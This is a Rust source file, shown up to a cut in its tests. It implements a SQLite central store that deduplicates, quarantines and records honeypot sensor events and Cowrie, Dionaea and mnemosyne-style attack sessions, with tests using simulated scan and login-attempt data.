//! The central store: every sensor's events in the shape of a sensor's own database (so reportd
//! serves a fleet as it serves one sensor), plus who published them, what was already received
//! (deduplication by event id), what was refused (quarantine) and mnemosyne-style session
//! records for users coming from MHN.
//!
//! The normalizer talks to it through [`CentralStore`]; [`SqliteCentralStore`] is the default.
//! A server database for large fleets implements the same trait.

use std::collections::HashMap;
use std::path::Path;

use bytes::Bytes;
use rusqlite::{Connection, params};
use serde_json::{Map, Value, json};
use store::events::{EventSink, RowHead, SessionConflict, SessionStart, SqliteSink};
use store::{Event, EventType};

use crate::NormalizerError;
use crate::parse::{CowrieSession, DionaeaConnection, Parsed};

/// How much of a refused payload the quarantine keeps (its full length is recorded too).
pub const QUARANTINE_KEEP_BYTES: usize = 64 * 1024;

/// Where a message came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Received {
    /// The hpfeeds channel.
    pub channel: String,
    /// The publisher's hpfeeds ident (authenticated by the broker).
    pub ident: String,
    /// When the normalizer received it (RFC 3339 UTC with microseconds).
    pub time: String,
}

/// One message for the store: parsed, or refused with a reason.
#[derive(Debug, Clone)]
pub struct Item {
    /// Where it came from.
    pub received: Received,
    /// The payload as received (kept in the quarantine when refused).
    pub payload: Bytes,
    /// What parsing made of it.
    pub parsed: Result<Parsed, String>,
}

/// What one batch did.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct BatchOutcome {
    /// Records written.
    pub written: u64,
    /// Records skipped because their id was already stored.
    pub duplicates: u64,
    /// Payloads kept in the quarantine (refused by the parser, or by the store).
    pub quarantined: u64,
}

impl BatchOutcome {
    /// Adds another outcome's counts.
    pub fn add(&mut self, other: BatchOutcome) {
        self.written += other.written;
        self.duplicates += other.duplicates;
        self.quarantined += other.quarantined;
    }
}

/// The interface the normalizer writes through.
pub trait CentralStore: Send {
    /// Writes a batch in one transaction. Items already stored (by id) are skipped and counted;
    /// refused items and items the store cannot take go to the quarantine. An `Err` means the
    /// batch as a whole was not written (the database itself failed).
    fn write(&mut self, batch: &[Item]) -> Result<BatchOutcome, NormalizerError>;
}

const CENTRAL_TABLES: &str = "
CREATE TABLE IF NOT EXISTS received (
    eventId TEXT PRIMARY KEY,
    channel TEXT NOT NULL,
    ident TEXT NOT NULL,
    receivedTime TEXT NOT NULL
) WITHOUT ROWID;
CREATE TABLE IF NOT EXISTS quarantine (
    ID INTEGER PRIMARY KEY,
    receivedTime TEXT NOT NULL,
    channel TEXT NOT NULL,
    ident TEXT NOT NULL,
    reason TEXT NOT NULL,
    length INTEGER NOT NULL,
    payload BLOB NOT NULL
);
CREATE TABLE IF NOT EXISTS mnemosyneSessions (
    session TEXT PRIMARY KEY,
    timestamp TEXT NOT NULL,
    received TEXT NOT NULL,
    source_ip TEXT NOT NULL,
    source_port INTEGER NOT NULL,
    destination_ip TEXT NOT NULL,
    destination_port INTEGER NOT NULL,
    honeypot TEXT NOT NULL,
    protocol TEXT NOT NULL,
    identifier TEXT NOT NULL,
    sensor TEXT NOT NULL,
    end_time TEXT,
    auth_attempts TEXT NOT NULL DEFAULT '[]',
    commands TEXT NOT NULL DEFAULT '[]',
    urls TEXT NOT NULL DEFAULT '[]',
    session_http TEXT,
    session_ssh TEXT,
    attachments TEXT NOT NULL DEFAULT '[]'
);
CREATE INDEX IF NOT EXISTS mnemosyneSessions_timestamp ON mnemosyneSessions (timestamp);
CREATE INDEX IF NOT EXISTS mnemosyneSessions_source ON mnemosyneSessions (source_ip);
CREATE INDEX IF NOT EXISTS sessions_ident ON sessions (ident, startTime);
";

/// Sessions remembered as present before the memory is cleared.
const KNOWN_SESSIONS_MAX: usize = 100_000;

const INSERT_RECEIVED: &str = "INSERT OR IGNORE INTO received (eventId, channel, ident, receivedTime) VALUES (?1, ?2, ?3, ?4)";

const UPSERT_MNEMOSYNE: &str = "INSERT INTO mnemosyneSessions (session, timestamp, received,
    source_ip, source_port, destination_ip, destination_port, honeypot, protocol, identifier,
    sensor) VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9, ?10, ?11)
    ON CONFLICT(session) DO UPDATE SET timestamp = min(timestamp, excluded.timestamp)";

const INSERT_QUARANTINE: &str = "INSERT INTO quarantine (receivedTime, channel, ident, reason,
    length, payload) VALUES (?1, ?2, ?3, ?4, ?5, ?6)";

/// The SQLite central store (WAL, one writer; readers such as reportd open it read-only).
pub struct SqliteCentralStore {
    conn: Connection,
    /// The event-writing core shared with the sensor's recorder; it also knows the instance
    /// tables it grew, as they exist in the file.
    sink: SqliteSink,
    /// (ident, sensor, plugin) to the instance table, learned from `session.start`.
    plugin_tables: HashMap<(String, String, String), String>,
    /// Sessions whose `sessions` and `mnemosyneSessions` rows exist (bounded; cleared when
    /// full or when a savepoint is rolled back): later events of a session skip the upserts.
    known_sessions: std::collections::HashSet<String>,
}

impl SqliteCentralStore {
    /// Opens (creating if needed) the central store at `path`.
    pub fn open(path: &Path) -> Result<SqliteCentralStore, NormalizerError> {
        let (conn, _) = store::open(path, &[])?;
        conn.execute_batch(CENTRAL_TABLES)?;
        // Issue 18 added the written files' hashes (mnemosyne's `attachments`) to the records.
        if !store::schema::table_columns(&conn, "mnemosyneSessions")?
            .iter()
            .any(|(name, _)| name.eq_ignore_ascii_case("attachments"))
        {
            conn.execute_batch(
                "ALTER TABLE mnemosyneSessions ADD COLUMN attachments TEXT NOT NULL DEFAULT '[]'",
            )?;
        }
        conn.set_prepared_statement_cache_capacity(256);
        // A bigger page cache than SQLite's 2 MB default: the sessions indexes stay in memory.
        conn.execute_batch("PRAGMA cache_size = -8192")?;
        Ok(SqliteCentralStore {
            conn,
            sink: SqliteSink::default(),
            plugin_tables: HashMap::new(),
            known_sessions: std::collections::HashSet::new(),
        })
    }

    /// Forgets what the file may no longer hold after a rollback.
    fn forget(&mut self) {
        self.sink.forget_grown();
        self.known_sessions.clear();
    }

    /// Remembers that a session's rows exist; true when they were already known.
    fn known(&mut self, session: &str) -> bool {
        if self.known_sessions.contains(session) {
            return true;
        }
        if self.known_sessions.len() >= KNOWN_SESSIONS_MAX {
            self.known_sessions.clear();
        }
        self.known_sessions.insert(session.to_owned());
        false
    }

    /// The connection, for queries in tests and tools.
    pub fn connection(&self) -> &Connection {
        &self.conn
    }

    fn write_item(&mut self, item: &Item) -> Result<ItemResult, NormalizerError> {
        let parsed = match &item.parsed {
            Ok(parsed) => parsed,
            Err(reason) => {
                self.quarantine(item, reason)?;
                return Ok(ItemResult::Quarantined);
            }
        };
        let r = &item.received;
        let dionaea_key;
        let id = match parsed {
            Parsed::Event(e) => e.id.as_str(),
            Parsed::Cowrie(c) => c.id.as_str(),
            Parsed::Dionaea(d) => {
                // Dionaea's message has no time and no id: two connections from one address
                // and port (scanners reuse a source port) are the same bytes. Dionaea never
                // sends twice, so the receipt time tells them apart.
                dionaea_key = dionaea_session(d, r);
                dionaea_key.as_str()
            }
        };
        let fresh = self
            .conn
            .prepare_cached(INSERT_RECEIVED)?
            .execute(params![id, r.channel, r.ident, r.time])?;
        if fresh == 0 {
            return Ok(ItemResult::Duplicate);
        }
        match parsed {
            Parsed::Event(event) => self.write_event(r, event)?,
            Parsed::Cowrie(session) => self.write_cowrie(r, session)?,
            Parsed::Dionaea(conn) => self.write_dionaea(r, conn)?,
        }
        Ok(ItemResult::Written)
    }

    fn quarantine(&self, item: &Item, reason: &str) -> Result<(), NormalizerError> {
        let r = &item.received;
        let kept = &item.payload[..item.payload.len().min(QUARANTINE_KEEP_BYTES)];
        self.conn
            .prepare_cached(INSERT_QUARANTINE)?
            .execute(params![
                r.time,
                r.channel,
                r.ident,
                reason,
                item.payload.len() as i64,
                kept
            ])?;
        Ok(())
    }

    /// The central store's session row: the earliest start wins, a table learned late fills
    /// in, and the publisher's ident is recorded.
    fn upsert_session(&self, row: &SessionStart<'_>, ident: &str) -> Result<(), NormalizerError> {
        self.sink
            .start_session(&self.conn, row, SessionConflict::MergeEarliest { ident })?;
        Ok(())
    }

    fn upsert_mnemosyne(
        &self,
        row: &SessionStart<'_>,
        r: &Received,
        honeypot: &str,
    ) -> Result<(), NormalizerError> {
        self.conn
            .prepare_cached(UPSERT_MNEMOSYNE)?
            .execute(params![
                row.session,
                row.start,
                r.time,
                row.peer,
                row.peer_port,
                row.local,
                row.local_port,
                honeypot,
                row.protocol,
                r.ident,
                row.sensor,
            ])?;
        Ok(())
    }

    /// Appends `value` to one of the JSON arrays of a session's mnemosyne record.
    fn mnemosyne_append(
        &self,
        session: &str,
        list: MnemosyneList,
        value: &Value,
    ) -> Result<(), NormalizerError> {
        self.conn
            .prepare_cached(list.append_sql())?
            .execute(params![session, value.to_string()])?;
        Ok(())
    }

    fn write_event(&mut self, r: &Received, event: &Event) -> Result<(), NormalizerError> {
        let key = (r.ident.clone(), event.sensor.clone(), event.plugin.clone());
        let declared = (event.kind == EventType::SessionStart)
            .then(|| event.data.get("table").and_then(Value::as_str))
            .flatten();
        if let Some(table) = declared {
            self.plugin_tables.insert(key.clone(), table.to_owned());
        }
        let peer = event.src_ip.to_string();
        let local = event.dst_ip.to_string();
        let table = match declared {
            Some(table) => Some(table.to_owned()),
            None => self.plugin_tables.get(&key).cloned(),
        };
        let row = SessionStart::of_event(event, table.as_deref(), &peer, &local);
        // Scans and the fingerprints of SYNs that opened no session are reports of the packet
        // capture: no session row is made for them.
        let sessionless = !store::events::opened_session(event);
        // A session's first event creates its rows; a later session.start (or a table learned
        // late) still updates them.
        if !sessionless && (!self.known(&event.session) || declared.is_some()) {
            self.upsert_session(&row, &r.ident)?;
            self.upsert_mnemosyne(&row, r, "recce7")?;
        }
        match event.kind {
            EventType::SessionStart => {}
            EventType::SessionEnd => {
                // The session's row exists: the upsert above made it if this was its first event.
                self.sink.end_session(&self.conn, event)?;
                self.conn
                    .prepare_cached(
                        "UPDATE mnemosyneSessions SET end_time = ?2 WHERE session = ?1",
                    )?
                    .execute(params![event.session, event.time])?;
            }
            EventType::InputRaw => self.sink.raw_input(&self.conn, event, &peer, &local)?,
            EventType::FingerprintP0f => self.sink.p0f(&self.conn, event, &peer, &local)?,
            EventType::FingerprintTls | EventType::FingerprintHttp => {
                self.sink.fingerprint(&self.conn, event, &peer, &local)?
            }
            kind if kind.is_scan() => self.sink.scan(&self.conn, event, &peer, &local)?,
            EventType::FileWritten => {
                self.sink.file_written(&self.conn, event, &peer, &local)?;
                self.mnemosyne_event(event)?;
            }
            EventType::DownloadAttempt => {
                self.sink.download(&self.conn, event, &peer, &local)?;
                self.mnemosyne_event(event)?;
            }
            _ => {
                let table = match table {
                    Some(t) => t,
                    None => self
                        .session_table(&event.session)?
                        .unwrap_or_else(|| event.plugin.clone()),
                };
                let fixed = RowHead::of_event(event, &peer, &local);
                self.insert_row(&table, &fixed, &event.data)?;
                self.mnemosyne_event(event)?;
            }
        }
        Ok(())
    }

    /// What a recce7 event adds to the session's mnemosyne record.
    fn mnemosyne_event(&self, event: &Event) -> Result<(), NormalizerError> {
        let text = |key: &str| event.data.get(key).and_then(Value::as_str);
        if let Some(login) = text("username") {
            let attempt = json!({"login": login, "password": event.data.get("password")});
            self.mnemosyne_append(&event.session, MnemosyneList::AuthAttempts, &attempt)?;
        }
        match event.kind {
            EventType::TelnetCommand | EventType::SshCommand => {
                if let Some(command) = text("user_input") {
                    self.mnemosyne_append(
                        &event.session,
                        MnemosyneList::Commands,
                        &json!(command),
                    )?;
                }
            }
            EventType::SshClient => {
                // mnemosyne's `session_ssh`: the client's version string, once per session.
                if let Some(version) = text("version") {
                    self.conn
                        .prepare_cached(
                            "UPDATE mnemosyneSessions SET session_ssh = ?2
                             WHERE session = ?1 AND session_ssh IS NULL",
                        )?
                        .execute(params![
                            event.session,
                            json!({"version": version}).to_string()
                        ])?;
                }
            }
            EventType::DownloadAttempt => {
                if let Some(url) = text("url") {
                    self.mnemosyne_append(&event.session, MnemosyneList::Urls, &json!(url))?;
                }
            }
            EventType::FileWritten => {
                // mnemosyne's attachment shape (its Dionaea capture normalizer's), with the
                // SHA-256 recce7 computes, and where the file was written.
                if let Some(sha256) = text("sha256") {
                    let via = text("via").unwrap_or("shell");
                    let attachment = json!({
                        "description": format!("File written ({via})"),
                        "path": text("path"),
                        "size": event.data.get("size"),
                        "hashes": {"sha256": sha256.to_ascii_lowercase()},
                    });
                    self.mnemosyne_append(&event.session, MnemosyneList::Attachments, &attachment)?;
                }
            }
            EventType::ServiceInput => {
                if let Some(line) = text("line") {
                    self.mnemosyne_append(&event.session, MnemosyneList::Commands, &json!(line))?;
                }
            }
            EventType::HttpRequest => {
                if let Some(path) = text("path") {
                    self.mnemosyne_append(&event.session, MnemosyneList::Urls, &json!(path))?;
                }
                let headers = text("headers").unwrap_or("");
                let host = headers.lines().find_map(|line| {
                    let (name, value) = line.split_once(':')?;
                    name.trim()
                        .eq_ignore_ascii_case("host")
                        .then(|| value.trim().to_owned())
                });
                let http = json!({"request": {
                    "host": host,
                    "header": headers,
                    "verb": text("command"),
                    "path": text("path"),
                    "body": text("body"),
                }});
                // The first request of the session, as mnemosyne keeps one; every path is in urls.
                self.conn
                    .prepare_cached(
                        "UPDATE mnemosyneSessions SET session_http = ?2
                         WHERE session = ?1 AND session_http IS NULL",
                    )?
                    .execute(params![event.session, http.to_string()])?;
            }
            _ => {}
        }
        Ok(())
    }

    fn session_table(&self, session: &str) -> Result<Option<String>, NormalizerError> {
        let found = self
            .conn
            .prepare_cached("SELECT tableName FROM sessions WHERE session = ?1")?
            .query_row([session], |r| r.get::<_, Option<String>>(0));
        match found {
            Ok(table) => Ok(table),
            Err(rusqlite::Error::QueryReturnedNoRows) => Ok(None),
            Err(e) => Err(e.into()),
        }
    }

    /// Writes a row into `table`, growing the table to fit `data` (see [`EventSink::grown_row`]).
    fn insert_row(
        &mut self,
        table: &str,
        fixed: &RowHead<'_>,
        data: &Map<String, Value>,
    ) -> Result<(), NormalizerError> {
        self.sink.grown_row(&self.conn, table, fixed, data)?;
        Ok(())
    }

    fn write_cowrie(&mut self, r: &Received, c: &CowrieSession) -> Result<(), NormalizerError> {
        let peer = c.peer_ip.to_string();
        let local = c.host_ip.to_string();
        let row = SessionStart {
            session: &c.id,
            sensor: &r.ident,
            plugin: "cowrie",
            table: Some("cowrie"),
            protocol: &c.protocol,
            peer: &peer,
            peer_port: c.peer_port,
            local: &local,
            local_port: c.host_port,
            start: &c.start_time,
        };
        self.upsert_session(&row, &r.ident)?;
        self.upsert_mnemosyne(&row, r, "cowrie")?;
        if let Some(end) = &c.end_time {
            self.conn
                .prepare_cached("UPDATE sessions SET endTime = ?2, closeReason = 'cowrie session closed' WHERE session = ?1")?
                .execute(params![c.id, end])?;
        }
        let fixed = |event_type: &'static str| RowHead {
            session: &c.id,
            time: &c.start_time,
            peer: &peer,
            local: &local,
            peer_port: c.peer_port,
            local_port: c.host_port,
            event_id: &c.id,
            event_type,
        };
        let mut session = Map::new();
        session.insert("cowrie_session".into(), json!(c.session));
        session.insert("version".into(), json!(c.version));
        session.insert("hassh".into(), json!(c.hassh));
        session.insert("ttylog".into(), json!(c.ttylog));
        session.insert("hashes".into(), json!(c.hashes));
        session.insert("extra".into(), Value::Object(c.extra.clone()));
        self.insert_row("cowrie", &fixed("cowrie.session"), &session)?;
        let mut attempts = Vec::new();
        let logins = c
            .credentials
            .iter()
            .map(|cred| (cred, false))
            .chain(c.logged_in.iter().map(|cred| (cred, true)));
        for ((user, pass), success) in logins {
            let mut data = Map::new();
            data.insert("username".into(), json!(user));
            data.insert("password".into(), json!(pass));
            data.insert("success".into(), json!(success));
            self.insert_row("cowrie", &fixed("cowrie.login"), &data)?;
            attempts.push(json!({"login": user, "password": pass}));
        }
        let inputs = c
            .commands
            .iter()
            .map(|s| ("cowrie.command", "user_input", s))
            .chain(
                c.unknown_commands
                    .iter()
                    .map(|s| ("cowrie.unknown_command", "user_input", s)),
            )
            .chain(c.urls.iter().map(|s| ("cowrie.url", "url", s)));
        for (event_type, column, value) in inputs {
            let mut data = Map::new();
            data.insert(column.into(), json!(value));
            self.insert_row("cowrie", &fixed(event_type), &data)?;
        }
        let commands: Vec<&String> = c.commands.iter().chain(&c.unknown_commands).collect();
        // Cowrie's `hashes` (SHA-256 of files downloaded or uploaded) as mnemosyne attachments,
        // the shape recce7's own written files take.
        let attachments: Vec<Value> = c
            .hashes
            .iter()
            .map(|h| {
                json!({"description": "File (cowrie)", "hashes": {"sha256": h.to_ascii_lowercase()}})
            })
            .collect();
        self.conn
            .prepare_cached(
                "UPDATE mnemosyneSessions SET auth_attempts = ?2, commands = ?3, urls = ?4,
                 session_ssh = ?5, end_time = ?6, attachments = ?7 WHERE session = ?1",
            )?
            .execute(params![
                c.id,
                Value::from(attempts).to_string(),
                json!(commands).to_string(),
                json!(c.urls).to_string(),
                c.version
                    .as_ref()
                    .map(|v| json!({"version": v}).to_string()),
                c.end_time,
                Value::from(attachments).to_string(),
            ])?;
        Ok(())
    }

    fn write_dionaea(
        &mut self,
        r: &Received,
        d: &DionaeaConnection,
    ) -> Result<(), NormalizerError> {
        let session = dionaea_session(d, r);
        let peer = d.remote_ip.to_string();
        let local = d.local_ip.to_string();
        let row = SessionStart {
            session: &session,
            sensor: &r.ident,
            plugin: "dionaea",
            table: Some("dionaea"),
            protocol: &d.protocol,
            peer: &peer,
            peer_port: d.remote_port,
            local: &local,
            local_port: d.local_port,
            start: &r.time,
        };
        self.upsert_session(&row, &r.ident)?;
        self.upsert_mnemosyne(&row, r, "dionaea")?;
        let mut data = Map::new();
        data.insert("connection_type".into(), json!(d.connection_type));
        data.insert("connection_transport".into(), json!(d.transport));
        data.insert("connection_protocol".into(), json!(d.protocol));
        data.insert("remote_hostname".into(), json!(d.remote_hostname));
        data.insert("extra".into(), Value::Object(d.extra.clone()));
        let fixed = RowHead {
            session: &session,
            time: &r.time,
            peer: &peer,
            local: &local,
            peer_port: d.remote_port,
            local_port: d.local_port,
            event_id: &session,
            event_type: "dionaea.connection",
        };
        self.insert_row("dionaea", &fixed, &data)?;
        Ok(())
    }
}

/// The session (and dedup) key of a Dionaea connection: its payload digest and receipt time.
fn dionaea_session(d: &DionaeaConnection, r: &Received) -> String {
    format!("{}@{}", d.id, r.time)
}

/// The JSON arrays of a mnemosyne record that grow event by event.
#[derive(Debug, Clone, Copy)]
enum MnemosyneList {
    AuthAttempts,
    Commands,
    Urls,
    Attachments,
}

impl MnemosyneList {
    fn append_sql(self) -> &'static str {
        match self {
            MnemosyneList::AuthAttempts => {
                "UPDATE mnemosyneSessions SET auth_attempts = json_insert(auth_attempts, '$[#]', json(?2)) WHERE session = ?1"
            }
            MnemosyneList::Commands => {
                "UPDATE mnemosyneSessions SET commands = json_insert(commands, '$[#]', json(?2)) WHERE session = ?1"
            }
            MnemosyneList::Urls => {
                "UPDATE mnemosyneSessions SET urls = json_insert(urls, '$[#]', json(?2)) WHERE session = ?1"
            }
            MnemosyneList::Attachments => {
                "UPDATE mnemosyneSessions SET attachments = json_insert(attachments, '$[#]', json(?2)) WHERE session = ?1"
            }
        }
    }
}

enum ItemResult {
    Written,
    Duplicate,
    Quarantined,
}

impl CentralStore for SqliteCentralStore {
    fn write(&mut self, batch: &[Item]) -> Result<BatchOutcome, NormalizerError> {
        let mut outcome = BatchOutcome::default();
        self.conn.execute_batch("BEGIN")?;
        for item in batch {
            // Each item in its own savepoint: one the store cannot take is rolled back alone
            // and quarantined with the store's reason, and the batch goes on.
            self.conn.prepare_cached("SAVEPOINT item")?.execute([])?;
            match self.write_item(item) {
                Ok(result) => {
                    self.conn.prepare_cached("RELEASE item")?.execute([])?;
                    match result {
                        ItemResult::Written => outcome.written += 1,
                        ItemResult::Duplicate => outcome.duplicates += 1,
                        ItemResult::Quarantined => outcome.quarantined += 1,
                    }
                }
                Err(e) => {
                    if self.conn.is_autocommit() {
                        // SQLite ended the transaction itself (a full disk): the batch is lost.
                        self.forget();
                        return Err(e);
                    }
                    self.conn.execute_batch("ROLLBACK TO item; RELEASE item")?;
                    // A table created or altered in the rolled-back savepoint is gone again.
                    self.forget();
                    tracing::warn!(channel = %item.received.channel, ident = %item.received.ident, error = %e, "payload quarantined: the store refused it");
                    self.quarantine(item, &format!("store: {e}"))?;
                    outcome.quarantined += 1;
                }
            }
        }
        if let Err(e) = self.conn.execute_batch("COMMIT") {
            let _ = self.conn.execute_batch("ROLLBACK");
            self.forget();
            return Err(e.into());
        }
        Ok(outcome)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse::{PayloadLimits, parse};

    fn item(channel: &str, ident: &str, payload: &str) -> Item {
        let payload = Bytes::from(payload.to_owned());
        Item {
            received: Received {
                channel: channel.into(),
                ident: ident.into(),
                time: store::now_rfc3339(),
            },
            parsed: parse(channel, ident, &payload, &PayloadLimits::default())
                .map_err(|r| r.to_string()),
            payload,
        }
    }

    fn event(id: &str, kind: &str, data: Value) -> String {
        json!({
            "schema": 1, "id": id, "sensor": "s1", "session": "01a20a83-a6fa-706e-a066-f2171e9d8850",
            "time": "2026-11-23T22:25:30.649422Z", "type": kind, "plugin": "web", "protocol": "http",
            "src_ip": "198.51.100.1", "src_port": 4000, "dst_ip": "10.0.0.1", "dst_port": 8080, "data": data,
        })
        .to_string()
    }

    const E1: &str = "01a20a83-aa19-7048-b6f8-da76f3b8d471";
    const E2: &str = "01a20a83-aa19-7048-b6f8-da76f3b8d472";
    const E3: &str = "01a20a83-aa19-7048-b6f8-da76f3b8d473";
    const E4: &str = "01a20a83-aa19-7048-b6f8-da76f3b8d474";

    fn one(conn: &Connection, sql: &str) -> String {
        conn.query_row(sql, [], |r| {
            Ok(match r.get_ref(0)? {
                rusqlite::types::ValueRef::Null => "NULL".to_owned(),
                rusqlite::types::ValueRef::Integer(i) => i.to_string(),
                rusqlite::types::ValueRef::Real(f) => f.to_string(),
                rusqlite::types::ValueRef::Text(t) => String::from_utf8_lossy(t).into_owned(),
                rusqlite::types::ValueRef::Blob(b) => String::from_utf8_lossy(b).into_owned(),
            })
        })
        .unwrap()
    }

    #[test]
    fn scans_and_sessionless_fingerprints_make_no_session() {
        let dir = tempfile::tempdir().unwrap();
        let mut store = SqliteCentralStore::open(&dir.path().join("c.sqlite")).unwrap();
        let scan = event(
            E1,
            "scan.syn",
            json!({"ports": [22, 23], "port_count": 2, "packets": 4,
                "first_seen": "2026-11-23T22:25:29.000000Z", "last_seen": "2026-11-23T22:25:30.000000Z"}),
        );
        let p0f = event(
            E2,
            "fingerprint.p0f",
            json!({"os": "NMap SYN scan", "raw_signature": "4:64+0:0:1460:1024,0:mss::0", "opened_session": false}),
        );
        let outcome = store
            .write(&[
                item("recce7.events", "sensor-1", &scan),
                item("recce7.events", "sensor-1", &p0f),
            ])
            .unwrap();
        assert_eq!(outcome.written, 2, "{outcome:?}");
        let c = store.connection();
        assert_eq!(one(c, "SELECT count(*) FROM sessions"), "0");
        assert_eq!(one(c, "SELECT count(*) FROM mnemosyneSessions"), "0");
        assert_eq!(
            one(c, "SELECT ports || ' ' || kind FROM scans"),
            "22,23 syn"
        );
        assert_eq!(
            one(c, "SELECT coalesce(session, 'NULL') || ' ' || os FROM p0f"),
            "NULL NMap SYN scan"
        );
    }

    #[test]
    fn events_deduplicate_grow_their_table_and_bad_ones_go_to_the_quarantine() {
        let dir = tempfile::tempdir().unwrap();
        let mut store = SqliteCentralStore::open(&dir.path().join("c.sqlite")).unwrap();
        let start = event(E1, "session.start", json!({"table": "http"}));
        let get = event(
            E2,
            "http.request",
            json!({"command": "GET", "path": "/", "status": 200}),
        );
        let post = event(
            E3,
            "http.request",
            json!({"command": "POST", "path": "/login.cgi", "username": "admin", "password": "1234", "elapsed": 0.5}),
        );
        let hostile = event(E4, "http.request", json!({"command": "GET"}))
            .replace("\"plugin\":\"web\"", "\"plugin\":\"other\"");
        let batch = vec![
            item("recce7.events", "sensor-1", &start),
            item("recce7.events", "sensor-1", &get),
            item("recce7.events", "sensor-1", &get),
            item("recce7.events", "sensor-1", &post),
            item("recce7.events", "sensor-1", "{\"schema\": 2}"),
        ];
        let outcome = store.write(&batch).unwrap();
        assert_eq!(
            outcome,
            BatchOutcome {
                written: 3,
                duplicates: 1,
                quarantined: 1
            }
        );
        // A later batch repeats one (at-least-once) and brings an event whose table (learned
        // from its plug-in name, as no session.start named one) is reserved: the store refuses
        // it alone, and the batch goes on.
        let sessions_table = hostile
            .replace("\"plugin\":\"other\"", "\"plugin\":\"sessions\"")
            .replace(
                "01a20a83-a6fa-706e-a066-f2171e9d8850",
                "01a20a83-a6fa-706e-a066-f2171e9d8851",
            );
        let outcome = store
            .write(&[
                item("recce7.events", "sensor-1", &post),
                item("recce7.events", "sensor-1", &sessions_table),
            ])
            .unwrap();
        assert_eq!(
            outcome,
            BatchOutcome {
                written: 0,
                duplicates: 1,
                quarantined: 1
            }
        );
        let c = store.connection();
        assert_eq!(one(c, "SELECT count(*) FROM http"), "2");
        assert_eq!(
            one(
                c,
                "SELECT group_concat(name) FROM pragma_table_info('http') WHERE cid >= 9"
            ),
            "command,path,status,elapsed,password,username",
            "columns created from the first event, then added in place (data keys in name order)"
        );
        assert_eq!(
            one(
                c,
                "SELECT typeof(elapsed) FROM http WHERE username = 'admin'"
            ),
            "real"
        );
        assert_eq!(one(c, "SELECT ident FROM sessions"), "sensor-1");
        assert_eq!(
            one(c, "SELECT group_concat(reason, ' | ') FROM quarantine"),
            "unknown schema version 2 | store: table name \"sessions\" is not a safe SQL identifier or is reserved"
        );
        assert_eq!(
            one(c, "SELECT count(*) FROM sessions"),
            "1",
            "the refused event left nothing behind"
        );
        assert_eq!(
            one(c, "SELECT auth_attempts FROM mnemosyneSessions"),
            r#"[{"login":"admin","password":"1234"}]"#
        );
        assert_eq!(
            one(c, "SELECT urls FROM mnemosyneSessions"),
            r#"["/","/login.cgi"]"#
        );
        assert_eq!(
            one(
                c,
                "SELECT json_extract(session_http, '$.request.path') FROM mnemosyneSessions"
            ),
            "/"
        );
    }

    #[test]
    fn an_end_without_its_start_still_makes_a_session() {
        let dir = tempfile::tempdir().unwrap();
        let mut store = SqliteCentralStore::open(&dir.path().join("c.sqlite")).unwrap();
        let end = event(
            E1,
            "session.end",
            json!({"bytes_in": 3, "bytes_out": 9, "reason": "idle timeout"}),
        );
        store.write(&[item("recce7.events", "s", &end)]).unwrap();
        assert_eq!(
            one(
                store.connection(),
                "SELECT startTime || ' ' || endTime || ' ' || closeReason FROM sessions"
            ),
            "2026-11-23T22:25:30.649422Z 2026-11-23T22:25:30.649422Z idle timeout"
        );
    }

    #[test]
    fn a_late_end_after_a_restart_closes_the_session_it_started() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("c.sqlite");
        let mut store = SqliteCentralStore::open(&path).unwrap();
        let start = event(E1, "session.start", json!({"table": "http"}))
            .replace("22:25:30.649422Z", "22:25:00.000000Z");
        let get = event(E2, "http.request", json!({"command": "GET", "path": "/"}))
            .replace("22:25:30.649422Z", "22:25:10.000000Z");
        store
            .write(&[
                item("recce7.events", "sensor-1", &start),
                item("recce7.events", "sensor-1", &get),
            ])
            .unwrap();
        drop(store);
        // The normalizer restarts (nothing of the session in memory); the sensor was killed and
        // closes the session at its own restart, at the time of its last event, bytes unknown.
        let mut store = SqliteCentralStore::open(&path).unwrap();
        let late = event(E3, "session.end", json!({"reason": "sensor restart"}))
            .replace("22:25:30.649422Z", "22:25:10.000000Z");
        let outcome = store
            .write(&[item("recce7.events", "sensor-1", &late)])
            .unwrap();
        assert_eq!(outcome.written, 1);
        let c = store.connection();
        assert_eq!(
            one(
                c,
                "SELECT startTime || ' ' || endTime || ' ' || closeReason || ' ' || coalesce(bytesIn, 'NULL') || ' ' || tableName FROM sessions"
            ),
            "2026-11-23T22:25:00.000000Z 2026-11-23T22:25:10.000000Z sensor restart NULL http",
            "the start stays, the end fills in"
        );
        assert_eq!(
            one(c, "SELECT end_time FROM mnemosyneSessions"),
            "2026-11-23T22:25:10.000000Z"
        );
        assert_eq!(one(c, "SELECT count(*) FROM http"), "1");
    }

    #[test]
    fn a_store_that_cannot_write_fails_the_batch_instead_of_losing_it_quietly() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("c.sqlite");
        let mut store = SqliteCentralStore::open(&path).unwrap();
        store
            .connection()
            .execute_batch("PRAGMA query_only = ON")
            .unwrap();
        let start = event(E1, "session.start", json!({"table": "http"}));
        assert!(store.write(&[item("recce7.events", "s", &start)]).is_err());
    }

    fn ssh_event(id: &str, kind: &str, data: Value) -> String {
        event(id, kind, data)
            .replace(r#""plugin":"web""#, r#""plugin":"ssh""#)
            .replace(r#""protocol":"http""#, r#""protocol":"ssh""#)
    }

    #[test]
    fn an_ssh_session_makes_a_mnemosyne_record_with_its_version_logins_commands_urls_and_files() {
        let dir = tempfile::tempdir().unwrap();
        let mut store = SqliteCentralStore::open(&dir.path().join("c.sqlite")).unwrap();
        let id = |n: u8| format!("01a20a83-aa19-7048-b6f8-da76f3b8d5{n:02}");
        let events = [
            ssh_event(&id(1), "session.start", json!({"table": "ssh"})),
            ssh_event(
                &id(2),
                "ssh.client",
                json!({"version": "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u6",
                    "hassh": "ec7378c1a92f5a8dde7e8b7a1ddf33d1",
                    "hassh_algorithms": "curve25519-sha256;aes128-ctr;hmac-sha2-256;none"}),
            ),
            ssh_event(
                &id(3),
                "ssh.login",
                json!({"method": "password", "username": "root", "password": "admin",
                    "key_type": null, "key_fingerprint": null, "outcome": "refused"}),
            ),
            ssh_event(
                &id(4),
                "ssh.login",
                json!({"method": "publickey", "username": "root", "password": null,
                    "key_type": "ssh-ed25519", "key_fingerprint": "SHA256:abc", "outcome": "refused"}),
            ),
            ssh_event(
                &id(5),
